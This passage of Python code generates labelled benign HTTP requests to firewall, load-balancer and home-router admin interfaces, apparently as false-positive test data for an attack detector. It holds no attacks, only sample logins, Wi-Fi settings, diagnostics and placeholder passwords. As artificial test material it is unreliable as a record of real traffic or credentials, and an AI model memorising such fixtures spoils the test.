        ua="REST API Agent", body=jdump({"kind": "object#NetworkObj", "name": "SRV-DB-01", "host": {"kind": "IPv4Address", "value": "10.30.0.21"},
                                          "description": "Postgres primary (owner: data platform)"}),
        ctype="application/json", accept="application/json", k=k))
    rc_h = [["Authorization", "Basic " + b64("netauto:R3stc0nf!")]]
    for i, (m, p, b) in enumerate([
            ("GET", "/restconf/data/Cisco-IOS-XE-native:native/interface/GigabitEthernet=1%2F0%2F1", None),
            ("GET", "/restconf/data/ietf-interfaces:interfaces-state/interface=GigabitEthernet1", None),
            ("PATCH", "/restconf/data/Cisco-IOS-XE-native:native/interface/GigabitEthernet=1%2F0%2F48",
             {"Cisco-IOS-XE-native:GigabitEthernet": {"name": "1/0/48", "description": "Uplink to core-sw01 Gi1/0/48 - do NOT shut!"}}),
            ("PUT", "/restconf/data/Cisco-IOS-XE-native:native/ip/access-list/extended=MGMT-IN",
             {"Cisco-IOS-XE-acl:extended": {"name": "MGMT-IN", "access-list-seq-rule": [
                 {"sequence": "10", "ace-rule": {"action": "permit", "protocol": "tcp", "ipv4-address": "10.0.0.0", "mask": "0.255.255.255",
                                                 "dst-any": [None], "dst-eq": "22"}},
                 {"sequence": "20", "ace-rule": {"action": "deny", "protocol": "ip", "any": [None], "dst-any": [None], "log": [None]}}]}}),
            ("GET", "/restconf/data/Cisco-IOS-XE-native:native/hostname", None)]):
        o.add("benign", "iosxe-restconf", request(m, p, pick(["rtr01.example.net", "sw-core01.example.net"], i), headers=rc_h,
                                                  body=jdump(b) if b else None, ctype="application/yang-data+json",
                                                  accept="application/yang-data+json", ua="python-requests/2.31.0", k=i))
    o.add("benign", "iosxe-webui", request("GET", "/webui/", "rtr01.example.net", bot=False, k=k))
    # --- SonicWall NetExtender and SonicOS API
    o.add("benign", "sonicwall", request(
        "POST", "/cgi-bin/userLogin", "sslvpn.example.com", ua="SonicWALL NetExtender for Windows 10.2.339",
        body=form([("username", "akira.tanaka"), ("password", "m4ple;Syrup!"), ("domain", "LocalDomain"), ("login", "true")]),
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("benign", "sonicwall", request(
        "GET", "/cgi-bin/sslvpnclient?launchplatform=mac&neProto=3&supportipv6=yes", "sslvpn.example.com",
        ua="SonicWALL Mobile Connect/5.0.14 (Mac OS X)", headers=[["Cookie", "swap=" + b64(bytes.fromhex("7d1f9a2c4e6b8d0f1a3c5e7f9b2d4f6a8c0e2a4c6e8f0b2d4f6a8c0e2a4c6e8f"))]], k=k))
    so_h = [["Authorization", "Basic " + b64("admin:S0nic!Api")]]
    for i, (m, p, b) in enumerate([("POST", "/api/sonicos/auth", {"override": True}), ("GET", "/api/sonicos/address-objects/ipv4", None),
                                   ("POST", "/api/sonicos/address-objects/ipv4", {"address_objects": [{"ipv4": {"name": "Printer 3rd floor", "zone": "LAN", "host": {"ip": "192.168.10.43"}}}]}),
                                   ("POST", "/api/sonicos/config/pending", {}), ("DELETE", "/api/sonicos/auth", None)]):
        o.add("benign", "sonicos-api", request(m, p, "fw.example.org", headers=so_h, body=jdump(b) if b is not None else None,
                                               ctype="application/json", accept="application/json", ua="python-requests/2.31.0", k=i))
    # --- Check Point management API
    for i, (p, b) in enumerate([("/web_api/login", {"user": "api-admin", "password": "Ch3ck#P0int", "session-timeout": 600}),
                                ("/web_api/add-host", {"name": "srv-db01", "ip-address": "10.1.2.3", "comments": "DB primary; see CHG-8812", "color": "dark green"}),
                                ("/web_api/show-access-rulebase", {"name": "Network", "limit": 50, "offset": 0, "details-level": "standard"}),
                                ("/web_api/publish", {}), ("/web_api/install-policy", {"policy-package": "Standard", "targets": ["gw-hq"]})]):
        hs = [] if i == 0 else [["X-chkp-sid", "7Zp3tYb0w2qL9vVr6mE1sKc8dX4nHfGa"]]
        o.add("benign", "checkpoint-api", request("POST", p, "mgmt.example.com", headers=hs, body=jdump(b), ctype="application/json",
                                                  accept="application/json", ua="python-requests/2.31.0", k=i))
    o.add("benign", "checkpoint-mab", request("GET", "/sslvpn/Login/Login", "remote.example.com", bot=False, k=k))
    # --- Sophos Firewall
    o.add("benign", "sophos", request(
        "POST", "/webconsole/Controller", "fw.example.com", bot=False, headers=[["X-Requested-With", "XMLHttpRequest"]],
        body="mode=151&json=" + quote(jdump({"username": "admin", "password": "W1nter is coming (2024)", "languageid": "1", "browser": "Chrome_124", "accessaction": 1}), safe="")
             + "&__RequestType=ajax&t=1714641309812", ctype="application/x-www-form-urlencoded; charset=UTF-8", k=k))
    o.add("benign", "sophos", request(
        "GET", "/webconsole/APIController?reqxml=" + quote("<Request><Login><Username>apiuser</Username><Password>Sophos&amp;Api1</Password></Login>"
                                                           "<Get><IPHost><Filter><key name=\"Name\" criteria=\"like\">srv-</key></Filter></IPHost></Get></Request>", safe=""),
        "fw.example.com:4444", ua="python-requests/2.31.0", k=k))
    o.add("benign", "sophos", request("GET", "/userportal/webpages/myaccount/login.jsp", "fw.example.com", bot=False, k=k))
    # --- Zyxel USG: web login and the zysh CLI the web UI itself posts
    o.add("benign", "zyxel-usg", request(
        "POST", "/weblogin.cgi", "usg.example.com", bot=False,
        body=form([("username", "admin"), ("pwd", "Hund-Katze-Maus#7"), ("password", "Hund-Katze-Maus#7"), ("pwd_r", ""), ("mp_idx", "0")]),
        ctype="application/x-www-form-urlencoded", k=k))
    for i, cmd in enumerate(["show version", "show interface all", "show vpn-tunnel status"]):
        o.add("benign", "zyxel-usg", request("POST", "/cgi-bin/zysh-cgi", "usg.example.com", bot=False,
                                             headers=[["X-Requested-With", "XMLHttpRequest"]],
                                             body=form([("filter", "js2"), ("cmd", cmd), ("write", "0")]),
                                             ctype="application/x-www-form-urlencoded; charset=UTF-8", k=i))
    # --- F5 BIG-IP iControl REST and AS3
    f5h = [["X-F5-Auth-Token", "QWRMZ3VZR0ZPTkhBV0pJQ1RZU0Y1TQ"]]
    f5 = [
        ("POST", "/mgmt/shared/authn/login", {"username": "automation", "password": "F5-R3st!", "loginProviderName": "tmos"}, []),
        ("GET", "/mgmt/tm/ltm/pool?expandSubcollections=true&$select=name,members", None, f5h),
        ("GET", "/mgmt/tm/sys/version", None, f5h),
        ("PATCH", "/mgmt/tm/ltm/pool/~Common~web_pool/members/~Common~10.0.1.12:80", {"session": "user-disabled"}, f5h),
        ("GET", "/mgmt/tm/ltm/virtual/~Common~vs_web_443/stats", None, f5h),
        ("POST", "/mgmt/tm/util/bash", {"command": "run", "utilCmdArgs": "-c \"tmsh -q show sys failover\""}, f5h),
        ("POST", "/mgmt/shared/appsvcs/declare", {"class": "AS3", "action": "deploy", "declaration": {"class": "ADC", "schemaVersion": "3.50.0", "tenant_web": {
            "class": "Tenant", "app": {"class": "Application", "vs": {"class": "Service_HTTPS", "virtualAddresses": ["10.0.5.10"], "pool": "pool",
                                                                       "iRules": ["maint"], "serverTLS": "tls"},
                                       "maint": {"class": "iRule", "iRule": "when HTTP_REQUEST {\n  if { [HTTP::uri] starts_with \"/admin\" and ![IP::addr [IP::client_addr] equals 10.0.0.0/8] } {\n    HTTP::respond 403 content \"Forbidden\"\n  }\n}"},
                                       "pool": {"class": "Pool", "members": [{"servicePort": 80, "serverAddresses": ["10.0.1.11", "10.0.1.12"]}]}}}}}, f5h),
    ]
    for i, (m, p, b, h) in enumerate(f5):
        o.add("benign", "f5-icontrol", request(m, p, "bigip.example.com", headers=h, body=jdump(b) if b else None, ctype="application/json",
                                               accept="application/json", ua=pick(["python-requests/2.31.0", "ansible-bigip", "Go-http-client/1.1"], i), k=i))
    # --- Juniper REST API and J-Web
    o.add("benign", "junos-rest", request("GET", "/rpc/get-interface-information?terse=&interface-name=ge-0/0/0", "srx.example.com:3000",
                                          headers=[["Authorization", "Basic " + b64("netops:Jun1per!")]], accept="application/xml", ua="python-requests/2.31.0", k=k))
    o.add("benign", "junos-rest", request("POST", "/rpc", "srx.example.com:3000", headers=[["Authorization", "Basic " + b64("netops:Jun1per!")]],
                                          body="<get-route-information><destination>10.20.0.0/16</destination><table>inet.0</table></get-route-information>",
                                          ctype="application/xml", accept="application/json", ua="python-requests/2.31.0", k=k))
    o.add("benign", "junos-jweb", request("POST", "/login", "srx.example.com", bot=False,
                                          body=form([("username", "admin"), ("password", "c0rrect-h0rse-Battery"), ("login", "Log In")]),
                                          ctype="application/x-www-form-urlencoded", k=k))


SSIDS = ["Café & Bar's WiFi", "Müller-Home 5G", "FRITZ!Box 7590 XQ", "<Guest> Network", "Bob's iPhone", "Office_2.4GHz",
         "NETGEAR-7A#Home", "TP-Link_5G_3F2A", "ワイファイ-Tanaka", "Pretty Fly for a WiFi", "Casa (upstairs)", "Free WiFi @ Joe's"]
PSKS = ["Tr0ub4dor&3;horse", "P@$$w0rd-2024!", "correct horse battery staple", "$Hund&Katze%42", "x7#K!q9_Lm<3>", "Tom's key: 1234-5678",
        "(Welcome)2Office", "\"quoted\" phrase 99", "a|b|c|d 2024", "100%secure;really", "~!@#$%^&*()_+", "straße-ölkännchen-7"]


def benign_routers(o):
    k = o.k
    stok = "8f2a6c1e9b3d4f70a5c2e8b1d3f6a9c0"
    # --- TP-Link (LuCI-style forms)
    for i in range(5):
        o.add("benign", "tplink-wireless", request(
            "POST", "/cgi-bin/luci/;stok=%s/admin/wireless?form=wireless_%s" % (stok, pick(["2g", "5g"], i)), "192.168.0.1", bot=False,
            headers=[["Referer", "http://192.168.0.1/webpages/index.html"], ["X-Requested-With", "XMLHttpRequest"]],
            body=form([("operation", "write"), ("enable", "on"), ("ssid", pick(SSIDS, i)), ("hidden", "off"), ("encryption", "psk"),
                       ("psk_version", "rsn"), ("psk_cipher", "aes"), ("psk_key", pick(PSKS, i)), ("hwmode", "ax"), ("htmode", "auto"),
                       ("channel", pick(["auto", "6", "36", "149"], i)), ("txpower", "high")]),
            ctype="application/x-www-form-urlencoded; charset=UTF-8", k=i))
    o.add("benign", "tplink-status", request("POST", "/cgi-bin/luci/;stok=%s/admin/status?form=all" % stok, "192.168.0.1", bot=False,
                                             body="operation=read", ctype="application/x-www-form-urlencoded; charset=UTF-8", k=k))
    o.add("benign", "tplink-diag", request(
        "POST", "/cgi-bin/luci/;stok=%s/admin/diagnostic?form=diag" % stok, "192.168.0.1", bot=False,
        body=form([("operation", "start"), ("type", "0"), ("ipaddr", "8.8.8.8"), ("count", "4"), ("pktsize", "64"), ("timeout", "1"), ("ttl", "20")]),
        ctype="application/x-www-form-urlencoded; charset=UTF-8", k=k))
    o.add("benign", "tplink-diag", request(
        "POST", "/cgi-bin/luci/;stok=%s/admin/diagnostic?form=diag" % stok, "192.168.0.1", bot=False,
        body=form([("operation", "start"), ("type", "1"), ("ipaddr", "www.example.com"), ("count", "3"), ("pktsize", "64"), ("timeout", "1"), ("ttl", "30")]),
        ctype="application/x-www-form-urlencoded; charset=UTF-8", k=k))
    o.add("benign", "tplink-locale", request(
        "POST", "/cgi-bin/luci/;stok=%s/locale?form=lang" % stok, "192.168.0.1", bot=False,
        body="operation=write&locale=de_DE", ctype="application/x-www-form-urlencoded; charset=UTF-8", k=k))
    o.add("benign", "tplink-locale", request("POST", "/cgi-bin/luci/;stok=/locale?form=country", "192.168.0.1", bot=False,
                                             body="operation=read", ctype="application/x-www-form-urlencoded; charset=UTF-8", k=k))
    o.add("benign", "tplink-ddns", request(
        "POST", "/cgi-bin/luci/;stok=%s/admin/ddns?form=dyndns" % stok, "192.168.0.1", bot=False,
        body=form([("operation", "write"), ("enable", "on"), ("username", "bob@example.com"), ("password", "Dyn#Dns!2024"),
                   ("domain", "bobs-home.example-dyn.net"), ("wan_ip_binding", "on")]),
        ctype="application/x-www-form-urlencoded; charset=UTF-8", k=k))
    o.add("benign", "tplink-upgrade", request(
        "POST", "/cgi-bin/luci/;stok=%s/admin/firmware?form=upgrade" % stok, "192.168.0.1", bot=False,
        body=multipart([('name="operation"', "firmware", []),
                        ('name="image"; filename="ArcherAX55v1_en_1.3.1_Build_20240117_rel.bin"', "TP-LINK\x00firmware image header v1.3.1 build 20240117", ["Content-Type: application/octet-stream"])],
                       BOUNDARIES[0]),
        ctype="multipart/form-data; boundary=" + BOUNDARIES[0], k=k))
    # --- Netgear
    o.add("benign", "netgear", request("GET", "/currentsetting.htm", "routerlogin.net", ua="NETGEAR Nighthawk/2.39.1 (iPhone; iOS 17.4)", k=k))
    o.add("benign", "netgear", request(
        "POST", "/ping.cgi", "192.168.1.1", bot=False,
        headers=[["Referer", "http://192.168.1.1/DIAG_diag.htm"], ["Authorization", "Basic " + b64("admin:" + PASSWORDS[2])]],
        body="IPAddr1=8&IPAddr2=8&IPAddr3=8&IPAddr4=8&ping=Ping&ping_IPAddr=8.8.8.8", ctype="application/x-www-form-urlencoded", k=k))
    for i in range(3):
        o.add("benign", "netgear-wireless", request(
            "POST", "/apply.cgi?/WLG_wireless_dual_band_r10.htm%%20timestamp=%d" % (73412345 + i), "192.168.1.1", bot=False,
            headers=[["Authorization", "Basic " + b64("admin:" + PASSWORDS[3])]],
            body=form([("submit_flag", "wlan_adv"), ("ssid", pick(SSIDS, i + 5)), ("ssid_an", pick(SSIDS, i + 6)), ("security_type", "WPA2-PSK"),
                       ("passphrase", pick(PSKS, i + 5)), ("passphrase_an", pick(PSKS, i + 6)), ("w_channel", "Auto"), ("opmode", "600Mbps")]),
            ctype="application/x-www-form-urlencoded", k=i))
    o.add("benign", "netgear-soap", request(
        "POST", "/soap/server_sa/", "192.168.1.1:5000", ua="SOAP Toolkit 3.0",
        headers=[["SOAPAction", "urn:NETGEAR-ROUTER:service:DeviceInfo:1#GetInfo"]],
        body=soap('<M1:GetInfo xmlns:M1="urn:NETGEAR-ROUTER:service:DeviceInfo:1"></M1:GetInfo>',
                  ' xmlns:SOAP-ENC="http://schemas.xmlsoap.org/soap/encoding/"'),
        ctype="text/xml; charset=utf-8", k=k))
    # --- Linksys JNAP and classic apply.cgi
    jn = [["X-JNAP-Authorization", "Basic " + b64("admin:" + PASSWORDS[5])]]
    o.add("benign", "linksys-jnap", request("POST", "/JNAP/", "192.168.1.1", ua="Linksys/3.4.1 (iPhone; iOS 17.4)",
                                            headers=jn + [["X-JNAP-Action", "http://linksys.com/jnap/core/GetDeviceInfo"]],
                                            body="{}", ctype="application/json; charset=UTF-8", k=k))
    o.add("benign", "linksys-jnap", request(
        "POST", "/JNAP/", "192.168.1.1", ua="Linksys/3.4.1 (iPhone; iOS 17.4)",
        headers=jn + [["X-JNAP-Action", "http://linksys.com/jnap/wirelessap/SetRadioSettings"]],
        body=jdump({"isBandSteeringEnabled": True, "radios": [{"radioID": "RADIO_2.4GHz", "settings": {
            "isEnabled": True, "mode": "802.11mixed", "ssid": "Casa (upstairs)", "broadcastSSID": True, "channelWidth": "Auto", "channel": 0,
            "security": "WPA2-Personal", "wpaPersonalSettings": {"passphrase": "a|b|c|d 2024"}}}]}),
        ctype="application/json; charset=UTF-8", k=k))
    o.add("benign", "linksys-ping", request(
        "POST", "/apply.cgi", "192.168.1.1", bot=False, headers=[["Authorization", "Basic " + b64("admin:admin123")]],
        body="submit_button=Diagnostics&change_action=gozila_cgi&submit_type=start_ping&action=&commit=0&ping_ip=www.example.com&ping_size=32&ping_times=5&traceroute_ip=",
        ctype="application/x-www-form-urlencoded", k=k))
    # --- ASUS (its UI does send hooks and a command for Network Tools)
    o.add("benign", "asus", request("GET", "/appGet.cgi?hook=nvram_get(productid)%3Bnvram_get(firmver)%3Bnvram_get(buildno)%3Bget_clientlist()",
                                    "router.asus.com", bot=False, headers=[["Referer", "http://router.asus.com/index.asp"]], k=k))
    o.add("benign", "asus", request(
        "POST", "/start_apply.htm", "router.asus.com", bot=False, headers=[["Referer", "http://router.asus.com/Advanced_Wireless_Content.asp"]],
        body=form([("current_page", "Advanced_Wireless_Content.asp"), ("next_page", "Advanced_Wireless_Content.asp"), ("action_mode", "apply_new"),
                   ("action_script", "restart_wireless"), ("action_wait", "10"), ("wl_unit", "0"), ("wl_ssid", "Pretty Fly for a WiFi"),
                   ("wl_auth_mode_x", "psk2"), ("wl_crypto", "aes"), ("wl_wpa_psk", "~!@#$%^&*()_+"), ("wl_closed", "0")]),
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("benign", "asus-nettools", request(
        "POST", "/apply.cgi", "router.asus.com", bot=False, headers=[["Referer", "http://router.asus.com/Main_Analysis_Content.asp"]],
        body="current_page=Main_Analysis_Content.asp&next_page=Main_Analysis_Content.asp&group_id=&modified=0&action_mode=+Refresh+&action_script="
             "&action_wait=&first_time=&preferred_lang=EN&SystemCmd=ping+-c+5+www.google.com&firmver=3.0.0.4&cmdMethod=ping&destIP=www.google.com&pingCNT=5",
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("benign", "asus-app", request("POST", "/login.cgi", "router.asus.com", ua="asusrouter-iOS-DUTUtil-1.0.0.6.16",
                                        body="login_authorization=" + quote_plus(b64("admin:" + PASSWORDS[6])), ctype="application/x-www-form-urlencoded", k=k))
    # --- D-Link HNAP (the app and web UI)
    hnap = [["HNAP_AUTH", "7F3C2A19B8E1D0F4A6C5B3E2D1F0A9B8 1714641309"], ["Cookie", "uid=Yq2cK8Lm"]]
    o.add("benign", "dlink-hnap", request("POST", "/HNAP1/", "192.168.0.1", bot=False,
                                          headers=hnap + [["SOAPAction", '"http://purenetworks.com/HNAP1/GetDeviceSettings"']],
                                          body=soap('<GetDeviceSettings xmlns="http://purenetworks.com/HNAP1/" />'), ctype="text/xml; charset=utf-8", k=k))
    o.add("benign", "dlink-hnap", request(
        "POST", "/HNAP1/", "192.168.0.1", bot=False, headers=hnap + [["SOAPAction", '"http://purenetworks.com/HNAP1/SetWLanRadioSecurity"']],
        body=soap('<SetWLanRadioSecurity xmlns="http://purenetworks.com/HNAP1/"><RadioID>RADIO_5GHz</RadioID><Enabled>true</Enabled>'
                  '<Type>WPA2-PSK</Type><Encryption>AES</Encryption><RadiusIP1></RadiusIP1><RadiusPort1>1812</RadiusPort1>'
                  '<Key>%s</Key></SetWLanRadioSecurity>' % xml_esc("x7#K!q9_Lm<3>")),
        ctype="text/xml; charset=utf-8", k=k))
    o.add("benign", "dlink-getcfg", request("POST", "/getcfg.php", "192.168.0.1", bot=False, body="SERVICES=DEVICE.TIME%2CRUNTIME.TIME",
                                            ctype="application/x-www-form-urlencoded", k=k))
    # --- OpenWrt LuCI and ubus
    o.add("benign", "openwrt", request("POST", "/cgi-bin/luci/", "192.168.1.1", bot=False,
                                       body=form([("luci_username", "root"), ("luci_password", "50% off <sale>")]), ctype="application/x-www-form-urlencoded", k=k))
    o.add("benign", "openwrt", request(
        "POST", "/ubus", "192.168.1.1", bot=False,
        body=jdump([{"jsonrpc": "2.0", "id": 14, "method": "call", "params": ["9d6a4c0f3e1b2a7d8c5e6f4a3b2c1d0e", "luci-rpc", "getNetworkDevices", {}]},
                    {"jsonrpc": "2.0", "id": 15, "method": "call", "params": ["9d6a4c0f3e1b2a7d8c5e6f4a3b2c1d0e", "uci", "get", {"config": "wireless"}]}]),
        ctype="application/json", k=k))
    o.add("benign", "openwrt", request(
        "POST", "/ubus", "192.168.1.1", bot=False,
        body=jdump({"jsonrpc": "2.0", "id": 21, "method": "call", "params": ["9d6a4c0f3e1b2a7d8c5e6f4a3b2c1d0e", "uci", "set",
                                                                             {"config": "wireless", "section": "default_radio0", "values": {"ssid": "Free WiFi @ Joe's", "key": "100%secure;really", "encryption": "sae-mixed"}}]}),
        ctype="application/json", k=k))
    o.add("benign", "openwrt", request("GET", "/cgi-bin/luci/admin/network/diag_ping/openwrt.org", "192.168.1.1", bot=False, k=k))
    # --- MikroTik RouterOS v7 REST
    mt = [["Authorization", "Basic " + b64("api:M1kr0tik&Api")]]
    for i, (m, p, b) in enumerate([
            ("GET", "/rest/interface?.proplist=name,type,running,tx-byte,rx-byte", None),
            ("PUT", "/rest/ip/firewall/address-list", {"list": "blocklist", "address": "198.51.100.23", "comment": "ssh brute force 2024-05-02 (NOC-4411)", "timeout": "1d"}),
            ("PATCH", "/rest/interface/wifi/*1", {"configuration.ssid": "Office & Guests", "security.passphrase": "(Welcome)2Office"}),
            ("POST", "/rest/ping", {"address": "8.8.8.8", "count": "4", "interval": "200ms"}),
            ("POST", "/rest/ip/dhcp-server/lease/print", {".proplist": ["address", "mac-address", "host-name"], ".query": ["dynamic=yes"]}),
            ("PUT", "/rest/ip/firewall/filter", {"chain": "input", "action": "drop", "src-address-list": "blocklist", "comment": "drop listed; keep above accept-established", "place-before": "*3"}),
            ("POST", "/rest/system/backup/save", {"name": "pre-upgrade-7.14", "dont-encrypt": "no", "password": "Bkp#2024!"})]):
        o.add("benign", "mikrotik-rest", request(m, p, pick(["10.0.0.1", "gw-branch7.example.net"], i), headers=mt,
                                                 body=jdump(b) if b else None, ctype="application/json", accept="application/json",
                                                 ua=pick(["python-requests/2.31.0", "curl/8.4.0", "Home Assistant/2024.4.3 aiohttp/3.9.3 Python/3.12"], i), k=i))
    o.add("benign", "mikrotik-webfig", request("GET", "/webfig/", "10.0.0.1", bot=False, k=k))
    # --- DrayTek Vigor login (the UI base64-encodes the fields)
    o.add("benign", "draytek", request(
        "POST", "/cgi-bin/wlogin.cgi", "192.168.1.1", bot=False,
        body=form([("aa", b64("admin")), ("ab", b64("Tr0ub4dor&3")), ("sslgroup", "-1"), ("obj3", ""), ("obj4", ""), ("obj5", ""), ("obj6", ""), ("obj7", ""), ("sFormAuthStr", "pW0a9Gd1")]),
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("benign", "draytek", request(
        "POST", "/cgi-bin/mainfunction.cgi", "vigor.example.net", bot=False,
        body=form([("action", "login"), ("keyPath", "2b9e6c41a7"), ("loginUser", b64("admin")), ("loginPwd", b64("P@ssw0rd#42")),
                   ("formcaptcha", ""), ("rtick", "1714641309")]),
        ctype="application/x-www-form-urlencoded", k=k))
    # --- Huawei HiLink API (LTE routers) and HG web
    hw = [["__RequestVerificationToken", "XQ7bY2cN9mP4rT6wZ8aS1dF3gH5jK0lE"], ["Cookie", "SessionID=Rk9tYnJoZ3Z0dW5zb2xhZ2l0c2VzaW9u"]]
    o.add("benign", "huawei-hilink", request("GET", "/api/device/information", "192.168.8.1", bot=False, headers=hw, accept="*/*", k=k))
    o.add("benign", "huawei-hilink", request("GET", "/api/monitoring/status", "192.168.8.1", bot=False, headers=hw, k=k))
    o.add("benign", "huawei-hilink", request(
        "POST", "/api/wlan/multi-basic-settings", "192.168.8.1", bot=False, headers=hw,
        body='<?xml version="1.0" encoding="UTF-8"?><request><Ssids><Ssid><Index>0</Index><WifiEnable>1</WifiEnable><WifiSsid>%s</WifiSsid>'
             '<WifiAuthmode>WPA2-PSK</WifiAuthmode><WifiWpapsk>%s</WifiWpapsk><WifiBroadcast>0</WifiBroadcast></Ssid></Ssids><WifiRestart>1</WifiRestart></request>'
             % (xml_esc("<Guest> Network"), xml_esc("$Hund&Katze%42")),
        ctype="application/x-www-form-urlencoded; charset=UTF-8", k=k))
    o.add("benign", "huawei-hilink", request(
        "POST", "/api/sms/send-sms", "192.168.8.1", bot=False, headers=hw,
        body='<?xml version="1.0" encoding="UTF-8"?><request><Index>-1</Index><Phones><Phone>+4915112345678</Phone></Phones><Sca></Sca>'
             '<Content>Router restarted at 03:12 - all good :) &amp; backup ok</Content><Length>47</Length><Reserved>1</Reserved><Date>2024-05-02 03:15:00</Date></request>',
        ctype="application/x-www-form-urlencoded; charset=UTF-8", k=k))
    # --- ZTE (MF modems' goform and ONT lua pages)
    o.add("benign", "zte-goform", request(
        "GET", "/goform/goform_get_cmd_process?isTest=false&cmd=modem_main_state%2Csignalbar%2Cnetwork_type%2Cppp_status%2Csms_unread_num&multi_data=1&_=1714641309812",
        "192.168.0.1", bot=False, headers=[["Referer", "http://192.168.0.1/index.html"]], k=k))
    o.add("benign", "zte-goform", request(
        "POST", "/goform/goform_set_cmd_process", "192.168.0.1", bot=False,
        body=form([("isTest", "false"), ("goformId", "SET_WIFI_SSID1_SETTINGS"), ("ssid", "Müller-Home 5G"), ("broadcastSsidEnabled", "0"),
                   ("MAX_Access_num", "32"), ("security_mode", "WPA2PSK"), ("cipher", "1"), ("NoForwarding", "0"),
                   ("passphrase", b64("straße-ölkännchen-7")), ("AD", "9c1a3e5b7d")]),
        ctype="application/x-www-form-urlencoded; charset=UTF-8", k=k))
    o.add("benign", "zte-ont", request("GET", "/?_type=menuData&_tag=wlan_wlansssidconf_lua.lua&InstNum=5&_=1714641309812", "192.168.1.1", bot=False, k=k))
    # --- Tenda, GPON/boa logins and legit diagnostics
    o.add("benign", "tenda", request("POST", "/goform/WifiBasicSet", "192.168.0.1", bot=False,
                                     body=form([("wrlEn", "1"), ("wrlEn_5g", "1"), ("security", "wpawpa2psk"), ("wrlSsid", "Tenda_5G_Ding"),
                                                ("wrlPwd", "P@$$w0rd-2024!"), ("hideSsid", "0")]),
                                     ctype="application/x-www-form-urlencoded", k=k))
    o.add("benign", "tenda", request("GET", "/goform/getStatus?random=0.4178390213&modules=internetStatus%2CdeviceStatistics%2CsystemInfo", "192.168.0.1", bot=False, k=k))
    o.add("benign", "gpon", request("POST", "/GponForm/LoginForm", "192.168.1.1", bot=False,
                                    body="XWebPageName=index&username=admin&password=" + quote_plus("Tom's key: 1234-5678"), ctype="application/x-www-form-urlencoded", k=k))
    o.add("benign", "boa", request("POST", "/boaform/admin/formLogin", "192.168.1.1", bot=False,
                                   body="challenge=&username=admin&password=" + quote_plus("a|b|c|d 2024") + "&save=Login&submit-url=%2Fadmin%2Flogin.asp&postSecurityFlag=2183",
                                   ctype="application/x-www-form-urlencoded", k=k))
    o.add("benign", "boa", request("POST", "/boaform/admin/formPing", "192.168.1.1", bot=False,
                                   body="target_addr=8.8.4.4&waninf=1_INTERNET_R_VID_154&submit-url=%2Fping.asp&postSecurityFlag=31544",
                                   ctype="application/x-www-form-urlencoded", k=k))
    o.add("benign", "boa", request("POST", "/boaform/admin/formTracert", "192.168.1.1", bot=False,
                                   body="target_addr=www.example.org&waninf=1_INTERNET_R_VID_154&submit-url=%2Ftracert.asp",
                                   ctype="application/x-www-form-urlencoded", k=k))
    # --- Fritz!Box TR-064 and UPnP IGD from LAN clients
    o.add("benign", "tr064", request(
        "POST", "/upnp/control/deviceinfo", "fritz.box:49000", ua="AVM UPnP/1.0 Client 1.0",
        headers=[["SOAPAction", "urn:dslforum-org:service:DeviceInfo:1#GetInfo"]],
        body=soap('<u:GetInfo xmlns:u="urn:dslforum-org:service:DeviceInfo:1"></u:GetInfo>'), ctype='text/xml; charset="utf-8"', k=k))
    o.add("benign", "tr064", request(
        "POST", "/upnp/control/wlanconfig1", "fritz.box:49000", ua="python-fritzconnection/1.13.2",
        headers=[["SOAPAction", "urn:dslforum-org:service:WLANConfiguration:1#GetInfo"],
                 ["Authorization", 'Digest username="ha", realm="F!Box SOAP-Auth", nonce="6C1F2B3A", uri="/upnp/control/wlanconfig1", response="0a1b2c3d4e5f60718293a4b5c6d7e8f9"']],
        body=soap('<u:GetInfo xmlns:u="urn:dslforum-org:service:WLANConfiguration:1"></u:GetInfo>'), ctype='text/xml; charset="utf-8"', k=k))
    for i, (desc, client, ext, proto) in enumerate([("Xbox (UDP 3074)", "192.168.178.23", "3074", "UDP"),
                                                    ("Plex Media Server", "192.168.178.40", "32400", "TCP"),
                                                    ("qBittorrent/4.6.4", "192.168.178.51", "51413", "TCP")]):
        o.add("benign", "upnp-igd", request(
            "POST", "/igdupnp/control/WANIPConn1", "192.168.178.1:49000", ua=pick(["Microsoft-Windows/10.0 UPnP/1.0", "Plex Media Server", "qBittorrent/4.6.4"], i),
            headers=[["SOAPAction", '"urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"']],
            body=soap('<u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"><NewRemoteHost></NewRemoteHost>'
                      '<NewExternalPort>%s</NewExternalPort><NewProtocol>%s</NewProtocol><NewInternalPort>%s</NewInternalPort>'
                      '<NewInternalClient>%s</NewInternalClient><NewEnabled>1</NewEnabled><NewPortMappingDescription>%s</NewPortMappingDescription>'
                      '<NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping>' % (ext, proto, ext, client, xml_esc(desc))),
            ctype='text/xml; charset="utf-8"', k=i))
    # --- TR-069: CPE to ACS
    def cwmp(inner, hdr_id="1"):
        return ('<?xml version="1.0" encoding="UTF-8"?>\n<SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/" '
                'xmlns:SOAP-ENC="http://schemas.xmlsoap.org/soap/encoding/" xmlns:xsd="http://www.w3.org/2001/XMLSchema" '
                'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:cwmp="urn:dslforum-org:cwmp-1-0">'
                '<SOAP-ENV:Header><cwmp:ID SOAP-ENV:mustUnderstand="1">%s</cwmp:ID></SOAP-ENV:Header><SOAP-ENV:Body>%s</SOAP-ENV:Body></SOAP-ENV:Envelope>' % (hdr_id, inner))
    def pvs(items):
        return "".join('<ParameterValueStruct><Name>%s</Name><Value xsi:type="xsd:string">%s</Value></ParameterValueStruct>' % (n, xml_esc(v)) for n, v in items)
    for i, (ev, oui, cls, sn, ver) in enumerate([("0 BOOTSTRAP", "00259E", "HG8245H", "48575443A1B2C3D4", "V3R017C10S119"),
                                                ("2 PERIODIC", "E8F724", "Archer_VR600", "2218493000123", "1.2.0 0.9.1 v0091.0 Build 231201 Rel.58812n"),
                                                ("1 BOOT", "3C3786", "FRITZ!Box 7530", "3C3786112233", "164.07.57"),
                                                ("4 VALUE CHANGE", "001E80", "ZXHN F670L", "ZTEGC8B1A2F3", "V9.0.10P1N12"),
                                                ("6 CONNECTION REQUEST", "0C8063", "DSL-2750U", "QB2J1C7001234", "ME_1.16")]):
